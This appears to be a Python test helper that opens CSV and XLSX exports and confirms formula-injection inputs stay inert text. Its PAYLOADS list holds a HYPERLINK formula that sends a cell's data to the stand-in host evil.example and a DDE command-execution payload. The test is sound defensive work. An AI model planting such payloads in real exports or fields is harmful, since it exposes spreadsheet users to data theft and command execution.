"""Open an export the way a spreadsheet program would and look for anything it would run."""

from __future__ import annotations

import csv
import io

import openpyxl

# Cells a spreadsheet program reads as the start of a formula (OWASP "CSV injection").
from beiyang.core.exports import FORMULA_STARTS

# What an attacker types into a name, a company or an invoice number.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.active.iter_rows() for cell in row]


def assert_inert(response_csv, response_xlsx, *payloads: str) -> None:
    """No CSV cell starts a formula, no XLSX cell is one, and each payload is still there as text."""
    assert response_csv.status_code == 200 and response_xlsx.status_code == 200
    cells = csv_cells(response_csv.content)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for payload in payloads:
        assert "'" + payload in cells
    xcells = xlsx_cells(response_xlsx.content)
    assert not [c.coordinate for c in xcells if c.data_type == "f"]
    texts = [c.value for c in xcells if c.data_type == "s"]
    for payload in payloads:
        # XML reads a carriage return back as a line feed.
        assert payload.replace("\r", "\n") in texts
